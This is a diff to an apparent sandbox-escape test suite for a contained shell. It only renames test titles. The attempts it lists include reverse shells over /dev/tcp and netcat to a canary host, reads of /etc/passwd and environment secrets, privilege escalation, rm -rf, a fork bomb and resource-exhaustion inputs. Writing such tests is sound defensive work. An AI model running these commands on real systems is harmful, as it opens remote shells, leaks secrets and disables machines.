@@ -11,7 +11,7 @@ afterAll(() => contained.close())
 const run = (owner: string, command: string) =>
   contained.shell({ owner, command, machine: new SmallMachine(), limits: { deadlineMs: DEADLINE_MS } })
 
-/** @param shows what the output must show; without it the command must fail or say nothing */
+/** @param shows what the output must match; without it the command must fail or print nothing */
 function attempt(title: string, command: (canary: Canary) => string, shows?: RegExp): EscapeAttempt {
   return {
     title,
@@ -31,7 +31,7 @@ testEscapes({
   calm: () => run('calm', 'echo calm'),
   attempts: [
     attempt('reading a file of the host', ({ file }) => `cat ${file}`),
-    attempt('reading it by climbing', ({ file }) => `cat ../../../../../../..${file}`),
+    attempt('reading it by a relative path', ({ file }) => `cat ../../../../../../..${file}`),
     attempt('reading it through a link', ({ file }) => `ln -s ${file} /tmp/l; cat /tmp/l`),
     attempt(
       'reading it through the folder of a process',
@@ -42,14 +42,17 @@ testEscapes({
     attempt('removing it', ({ folder, file }) => `rm -rf ${folder} ${file}; ls ${folder}`),
     attempt('the accounts', () => 'cat /etc/passwd', /^root:x:0:0[\s\S]*juicer/),
     attempt('the environment', () => 'env; cat /proc/self/environ; printenv FRUIT_CANARY', /juicer/),
-    attempt('numbers of processes', () => 'echo $$ $PPID $BASHPID; ps aux', /^733 1/),
+    attempt('process ids', () => 'echo $$ $PPID $BASHPID; ps aux', /^733 1/),
     attempt(
       'a program of the host',
       () => '/usr/bin/id; /usr/local/bin/node -e 1; perl -e 1; php -r 1; ruby -e 1',
       /./,
     ),
     attempt('JavaScript', () => 'node -e "process.exit(1)"; js-exec -c "1"; python3 -c "import os"', /not/),
-    attempt('JavaScript in sums', () => 'echo $((process.exit(1))); a[process.exit]=1; awk "BEGIN { print process }"'),
+    attempt(
+      'JavaScript in arithmetic',
+      () => 'echo $((process.exit(1))); a[process.exit]=1; awk "BEGIN { print process }"',
+    ),
     attempt(
       'JavaScript in names',
       () =>
@@ -62,8 +65,8 @@ testEscapes({
       () => `echo '{"a":1}' | jq '.constructor, .__proto__, .a.constructor.constructor'`,
       /null|Cannot index/,
     ),
-    attempt('a shell that calls back by a device', ({ host }) => `bash -i >& /dev/tcp/${host.replace(':', '/')} 0>&1`),
-    attempt('reading from a device of the net', ({ host }) => `exec 3<>/dev/tcp/${host.replace(':', '/')}; cat <&3`),
+    attempt('a reverse shell through a device', ({ host }) => `bash -i >& /dev/tcp/${host.replace(':', '/')} 0>&1`),
+    attempt('reading from a network device', ({ host }) => `exec 3<>/dev/tcp/${host.replace(':', '/')}; cat <&3`),
     attempt('netcat', ({ host }) => `nc ${host.replace(':', ' ')} -e /bin/sh; ncat ${host}; socat - TCP:${host}`),
     attempt('curl to the host', ({ host }) => `curl http://${host}/; curl telnet://${host}; curl gopher://${host}/_x`),
     attempt(
@@ -79,19 +82,19 @@ testEscapes({
       ({ host }) => `http_proxy=http://${host} curl -x http://${host} http://example.com/`,
     ),
     attempt(
-      'curl that is told addresses',
+      'curl with fixed addresses',
       ({ host }) => `curl --resolve a.test:80:${host.split(':')[0]} --connect-to ::${host} http://a.test/`,
     ),
     attempt(
-      'names asked for',
+      'name lookups',
       ({ host }) => `nslookup a.test ${host}; dig @127.0.0.1 a.test; ping -c 1 127.0.0.1; getent hosts a`,
     ),
     attempt(
-      'becoming somebody else',
+      'changing the user',
       () => 'sudo id; su - root -c id; doas id; chmod u+s /bin/bash; chroot / id',
       /sudoers/,
     ),
-    attempt('a bomb of processes', () => ':(){ :|:& };:'),
+    attempt('a fork bomb', () => ':(){ :|:& };:'),
     attempt('an endless loop', () => 'while :; do :; done'),
     attempt(
       'endless loops in other languages',
@@ -101,17 +104,17 @@ testEscapes({
     attempt('endless files', () => 'i=0; while :; do i=$((i+1)); printf "%01000000d" 1 > /tmp/$i; done'),
     attempt('endless output', () => 'yes | head -c 100000000; cat /dev/zero /dev/urandom; seq 1 100000000', /./),
     attempt(
-      'a pattern that doubles back',
+      'a pattern with exponential backtracking',
       () => `echo ${'a'.repeat(60)}b | grep -E '^(a+)+$'; [[ ${'a'.repeat(60)}b =~ ^(a+)+$ ]]`,
     ),
     attempt(
-      'braces without end',
+      'huge brace expansions',
       () =>
         'echo {1..100000000}; echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}',
       /./,
     ),
     attempt('a long sleep', () => 'sleep 3600'),
-    attempt('nesting', () => `${'$('.repeat(500)}id${')'.repeat(500)}`),
+    attempt('deep nesting', () => `${'$('.repeat(500)}id${')'.repeat(500)}`),
     attempt('a long command', () => `echo ${'x'.repeat(100_000)}`, /too long/),
   ],
 })
